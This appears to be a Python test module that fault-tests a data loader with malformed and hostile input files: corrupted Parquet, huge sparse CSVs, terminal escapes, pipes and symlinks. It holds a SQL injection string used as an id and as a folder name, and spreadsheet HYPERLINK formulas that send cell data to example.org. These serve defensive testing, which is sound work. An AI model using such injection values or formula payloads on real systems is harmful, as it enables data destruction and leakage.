"""What do broken and hostile input files do? They are refused soon, with bounded memory, or loaded as what they say."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv
import pyarrow.parquet as pq

from benchmarks.fault_places import AS_OF
from benchmarks.fault_processes import Ended
from benchmarks.fault_verdicts import Fault, Inspection
from benchmarks.faults_kills import load_words

REFUSED = "exit 3 with what is wrong; every table stays to the bit; a good load succeeds afterwards"
SOON = "exit 3 within 60 s and 1.5 GB; every table stays to the bit"
LITERALLY = "exit 0; the values are stored as they are and run nowhere"
MOST_SECONDS, MOST_MB = 60.0, 1_500
"""A file of 10 GB, or a line of it, must not take longer or more: it is on two busy cores that the suite is run."""

Write = Callable[[Path], None]
"""Puts something hostile into a folder of input tables, which holds the good ones."""


def file_faults() -> Iterator[Fault]:
    """Yield files that are refused, those that take long to refuse, and those that are loaded though they look bad."""
    for name, write, words in REFUSED_FILES:
        yield Fault("input file", name, REFUSED, partial(_refused, write, words))
    for name, write, words in LARGE_FILES:
        yield Fault("input file", name, SOON, partial(_refused_soon, write, words))
    for name, write, check in LOADED_FILES:
        yield Fault("input file", name, LITERALLY, partial(_loaded, write, check))


def _load(seen: Inspection, write: Write, folder: str = "incoming") -> Ended:
    incoming = seen.place.folder / folder
    shutil.copytree(seen.place.county / "input", incoming)
    write(incoming)
    return seen.place.uncap("load", str(incoming))


def _refused(write: Write, words: str, seen: Inspection) -> None:
    seen.ended(_load(seen, write), 3, words)
    seen.unchanged()
    seen.heals(load_words(seen.place), loaded=True)


def _refused_soon(write: Write, words: str, seen: Inspection) -> None:
    ended = _load(seen, write)
    seen.ended(ended, 3, words)
    seen.said = f"{ended.seconds:.1f} s, {ended.peak_mb:,} MB: {seen.said}"
    seen.expect(holds=ended.seconds <= MOST_SECONDS, otherwise=f"it took {ended.seconds:.0f} s")
    seen.expect(holds=ended.peak_mb <= MOST_MB, otherwise=f"it took {ended.peak_mb:,} MB")
    seen.unchanged()


def _loaded(write: Write, check: Callable[[Inspection], None], seen: Inspection) -> None:
    seen.ended(_load(seen, write), 0)
    check(seen)


def _csv(folder: Path, change: Callable[[bytes], bytes], table: str = "order_lines") -> None:
    """Replace a table by a CSV file whose bytes were changed."""
    rows = pq.read_table(folder / f"{table}.parquet")
    (folder / f"{table}.parquet").unlink()
    written = pa.BufferOutputStream()
    pyarrow.csv.write_csv(rows, written, pyarrow.csv.WriteOptions(quoting_style="needed"))
    (folder / f"{table}.csv").write_bytes(change(written.getvalue().to_pybytes()))


def _line(text: bytes) -> Callable[[bytes], bytes]:
    """Return what puts a line behind the first rows."""

    def changed(content: bytes) -> bytes:
        lines = content.split(b"\n")
        return b"\n".join([*lines[:10], text, *lines[10:]])

    return changed


def _order(name: str, value: object) -> Callable[[Path], None]:
    """Return what gives one order line another value."""

    def write(folder: Path) -> None:
        path = folder / "order_lines.parquet"
        lines = pq.read_table(path)
        position = lines.column_names.index(name)
        values = lines[name].to_pylist()
        values[5] = value
        pq.write_table(lines.set_column(position, name, pa.array(values)), path)

    return write


def _truncated(folder: Path) -> None:
    path = folder / "order_lines.parquet"
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def _garbage(folder: Path) -> None:
    (folder / "order_lines.parquet").write_bytes(os.urandom(100_000))


def _flipped(folder: Path) -> None:
    """Turn the bits of some bytes in the middle of the data, which the footer does not know of."""
    path = folder / "order_lines.parquet"
    content = bytearray(path.read_bytes())
    for position in range(2_000, 2_400):
        content[position] ^= 0xFF
    path.write_bytes(bytes(content))


def _empty(name: str) -> Write:
    def write(folder: Path) -> None:
        (folder / "order_lines.parquet").unlink()
        (folder / name).write_bytes(b"")

    return write


def _in_place_of_orders(make: Callable[[Path], None], name: str = "order_lines.csv") -> Write:
    def write(folder: Path) -> None:
        (folder / "order_lines.parquet").unlink()
        make(folder / name)

    return write


def _folder_of_garbage(path: Path) -> None:
    path.mkdir()
    (path / "part-0.parquet").write_bytes(b"PAR1 no")


def _nested(folder: Path) -> None:
    lines = pq.read_table(folder / "order_lines.parquet")
    pairs = pa.array([{"a": 1}] * lines.num_rows)
    pq.write_table(lines.set_column(lines.column_names.index("sku_id"), "sku_id", pairs), folder / "order_lines.parquet")


def _million_columns(path: Path) -> None:
    path.write_text(",".join(f"c{number}" for number in range(1_000_000)) + "\n" + "1," * 999_999 + "1\n")


def _million_columns_below(path: Path) -> None:
    path.write_text("line_id,retailer_id,sku_id,ordered_on,delivered_units\n" + "1," * 999_999 + "1\n")


def _sparse(head: bytes, gigabytes: int = 10) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with path.open("wb") as file:
            file.write(head)
            file.truncate(gigabytes * 2**30)

    return make


def _quote_never_closed(path: Path) -> None:
    row = b"L%d,R1,S1,2024-01-02,3\n"
    with path.open("wb") as file:
        file.write(b'line_id,retailer_id,sku_id,ordered_on,delivered_units\nL,"R1,S1,2024-01-02,3\n')
        file.writelines(b"".join(row % number for number in range(first, first + 10_000)) for first in range(0, 5_000_000, 10_000))


ESCAPES = "\x1b[2JL\u202e1,R1,S1,never,3,,".encode()


def _both(folder: Path) -> None:
    (folder / "order_lines.csv").write_bytes(HEADER)


HEADER = b"line_id,retailer_id,sku_id,ordered_on,delivered_units\n"

REFUSED_FILES: tuple[tuple[str, Write, str], ...] = (
    ("Parquet file cut in half", _truncated, "order_lines.parquet cannot be read"),
    ("random bytes named .parquet", _garbage, "order_lines.parquet cannot be read"),
    ("Parquet file with 400 bytes turned in its data", _flipped, "order_lines"),
    ("Parquet file of 0 bytes", _empty("order_lines.parquet"), "order_lines.parquet"),
    ("CSV file of 0 bytes", _empty("order_lines.csv"), "is empty"),
    ("Parquet column of structs", _nested, "order_lines.sku_id: not text"),
    ("CSV in Latin-1", lambda folder: _csv(folder, _line("L1é,R1,S1,2024-01-02,3,,".encode("latin-1"))), "not UTF-8"),
    ("CSV with null bytes in a value", lambda folder: _csv(folder, _line(b"L\0 1,R1,S1,2024-01-02,3,,")), "order_lines"),
    ("CSV with a column twice", lambda folder: _csv(folder, lambda text: text.replace(b"amount", b"line_id", 1)), "twice in the header"),
    ("CSV row with too few fields", lambda folder: _csv(folder, _line(b"L1,R1")), "fewer fields than the header"),
    ("CSV row with text behind a quote", lambda folder: _csv(folder, _line(b'"L1"x,R1,S1,2024-01-02,3,,')), "order_lines"),
    ("number beyond all bounds (1e400)", lambda folder: _csv(folder, _line(b"L1,R1,S1,2024-01-02,1e400,,")), "delivered_units"),
    ("NaN for delivered units", _order("delivered_units", float("nan")), "order_lines.delivered_units: not finite"),
    ("infinite delivered units", _order("delivered_units", float("inf")), "order_lines.delivered_units: not finite"),
    ("an order in the year 9999", lambda folder: _csv(folder, _line(b"L1,R1,S1,9999-12-31,3,,")), "order_lines"),
    ("an order in the year 62", lambda folder: _csv(folder, _line(b"L1,R1,S1,0062-01-02,3,,")), "order_lines"),
    ("terminal escapes and a turned direction of writing in an id", lambda folder: _csv(folder, _line(ESCAPES)), r"\x1b[2JL\u202e1"),
    ("symbolic link to itself", _in_place_of_orders(lambda path: path.symlink_to(path)), "order_lines.csv"),
    ("folder named order_lines.csv", _in_place_of_orders(lambda path: path.mkdir()), "order_lines"),
    ("folder of garbage named order_lines", _in_place_of_orders(_folder_of_garbage, "order_lines"), "order_lines"),
    ("named pipe that nobody writes to", _in_place_of_orders(os.mkfifo), "order_lines.csv"),
    ("the same table as CSV and as Parquet", _both, "order_lines: 2 files"),
)  # fmt: skip

LARGE_FILES: tuple[tuple[str, Write, str], ...] = (
    ("CSV with 1,000,000 columns in its header", _in_place_of_orders(_million_columns), "order_lines"),
    ("CSV row of 1,000,000 fields", _in_place_of_orders(_million_columns_below), "order_lines"),
    ("10 GB of null bytes named .csv", _in_place_of_orders(_sparse(b"")), "order_lines"),
    ("10 GB in one line below a good header", _in_place_of_orders(_sparse(HEADER)), "order_lines"),
    ("10 GB of null bytes named .parquet", _in_place_of_orders(_sparse(b"PAR1"), "order_lines.parquet"), "order_lines"),
    ("a quote that is never closed, in 120 MB of CSV", _in_place_of_orders(_quote_never_closed), "order_lines"),
    ("link to /dev/zero, which never ends", _in_place_of_orders(lambda path: path.symlink_to("/dev/zero")), "order_lines.csv"),
)


def _as_undisturbed(seen: Inspection) -> None:
    """Expect the tables of a good load."""
    seen.heals(loaded=True)


def _windows(folder: Path) -> None:
    _csv(folder, lambda text: b"\xef\xbb\xbf" + text.replace(b"\n", b"\r\n"))


INJECTION = "x'); DROP TABLE raw.order_lines; --"


def _new_retailer(folder: Path, retailer_id: str, name: str) -> None:
    retailers = pq.read_table(folder / "retailers.parquet")
    row = retailers.slice(0, 1).to_pylist()[0] | {"retailer_id": retailer_id, "name": name, "successor_id": None}
    more = pa.Table.from_pylist([row], schema=retailers.schema)
    pq.write_table(pa.concat_tables([retailers, more]), folder / "retailers.parquet")


def _holds(query: str, expected: object) -> Callable[[Inspection], None]:
    def check(seen: Inspection) -> None:
        found = seen.place.rows(query)
        seen.expect(holds=found == [[expected]], otherwise=f"{query}: {found}, expected {expected}")

    return check


def _formulas(folder: Path) -> None:
    retailers = pq.read_table(folder / "retailers.parquet")
    names = pa.array([f'=HYPERLINK("http://example.org/?"&A{number})' for number in range(retailers.num_rows)])
    pq.write_table(retailers.set_column(retailers.column_names.index("name"), "name", names), folder / "retailers.parquet")


def _neutralised(seen: Inspection) -> None:
    """Expect no cell of the exported work lists to begin as a formula does."""
    file = seen.place.folder / "lists.csv"
    ended = seen.place.uncap("worklist", "--as-of", str(AS_OF), "--csv", str(file))
    seen.expect(holds=ended.exit_code == 0, otherwise=ended.said[-300:])
    rows = pyarrow.csv.read_csv(file)
    seen.expect(holds=rows.num_rows > 0, otherwise="no row was exported")
    names = rows["name"]
    seen.expect(holds=pc.all(pc.starts_with(names, "'=HYPERLINK")).as_py(), otherwise=f"formulas: {names.to_pylist()[:3]}")


SQL_NAME = "SELECT name FROM raw.retailers WHERE starts_with(retailer_id, 'x''')"
LONG_NAME = "SELECT length(name) FROM raw.retailers WHERE retailer_id = 'long'"

LOADED_FILES: tuple[tuple[str, Write, Callable[[Inspection], None]], ...] = (
    ("CSV with a byte order mark and Windows line ends", _windows, _as_undisturbed),
    ("SQL in an id", lambda folder: _new_retailer(folder, INJECTION, INJECTION), _holds(SQL_NAME, INJECTION)),
    ("a name of 1 MB", lambda folder: _new_retailer(folder, "long", "é" * 500_000), _holds(LONG_NAME, 500_000)),
    ("formulas in all names, exported for a spreadsheet", _formulas, _neutralised),
)  # fmt: skip


def path_faults() -> Iterator[Fault]:
    """Yield folders whose name could be taken for something else."""
    for folder in ("it's; DROP TABLE raw.order_lines; --", 'a "quoted" [*]? folder', "ordner mit ümläuten und 空格"):
        yield Fault("input file", f"folder named {folder}", "exit 0; the tables of an undisturbed load", partial(_named, folder))


def _named(folder: str, seen: Inspection) -> None:
    seen.ended(_load(seen, lambda _: None, folder), 0)
    seen.heals(loaded=True)
